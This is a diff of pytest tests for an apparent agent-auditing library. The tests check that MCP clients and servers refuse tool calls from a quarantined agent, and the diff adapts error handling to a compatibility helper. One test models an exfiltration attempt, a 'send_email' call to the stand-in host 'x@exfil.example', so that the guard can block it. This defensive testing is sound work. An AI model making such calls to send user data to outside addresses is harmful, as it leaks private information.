@@ -27,7 +27,6 @@ from typing import Any
 
 import pytest
 from mcp.client.session import ClientSession
-from mcp.shared.exceptions import MCPError
 from opentelemetry.trace import StatusCode
 
 import agentaudit
@@ -37,6 +36,7 @@ from agentaudit.schema import attributes as A
 from tests.frameworks.conftest import Spans
 from tests.frameworks.mcp._client import ROOT, stdio_session
 from tests.frameworks.mcp._jsonl import wait_for_spans
+from tests.frameworks.mcp._sdk import MCPError, is_error
 from tests.instrumentation.admin_double import AdminDouble
 
 pytestmark = pytest.mark.timeout(120)
@@ -65,13 +65,13 @@ def test_the_client_refuses_a_quarantined_agent_before_the_request_leaves(
         async with stdio_session(server_file) as session:
             with agentaudit.context(agent="mail-assistant", user="bob", session="sess-q"):
                 inbox = await session.call_tool("read_inbox", {"folder": "inbox"})
-                assert not inbox.is_error
+                assert not is_error(inbox)
                 admin.quarantine("mail-assistant", "sent the customer list out")
                 guard.refresh_all()  # what the poller does every 2 s
                 with pytest.raises(agentaudit.AgentQuarantined, match="customer list out"):
                     await session.call_tool("send_email", {"to": "x@exfil.example", "body": "b"})
             with agentaudit.context(agent="calendar-bot", user="bob", session="sess-r"):
-                assert not (await session.call_tool("read_inbox", {})).is_error
+                assert not is_error(await session.call_tool("read_inbox", {}))
 
     try:
         asyncio.run(run())
@@ -122,7 +122,7 @@ def test_a_guarded_server_refuses_a_quarantined_caller_as_a_tool_error(
         async with _guarded_server(server_file, admin.url) as session:
             with agentaudit.context(agent="mail-assistant", user="bob", session="sess-s"):
                 first = await session.call_tool("read_inbox", {"folder": "inbox"})
-                assert not first.is_error
+                assert not is_error(first)
                 admin.quarantine("mail-assistant", "sent the customer list out")
                 deadline = time.monotonic() + 60
                 while time.monotonic() < deadline:  # the server's poller picks it up
@@ -149,5 +149,7 @@ def test_a_guarded_server_refuses_a_quarantined_caller_as_a_tool_error(
     )
     # The client records the refused call as a failed tool call.
     client = spans.tools("read_inbox")[-1]
-    assert (client.attributes or {})[A.ERROR_TYPE] == "mcp.shared.exceptions.MCPError"
+    assert (client.attributes or {})[A.ERROR_TYPE] == (
+        f"{type(refused).__module__}.{type(refused).__qualname__}"
+    )
     assert client.status.status_code is StatusCode.ERROR
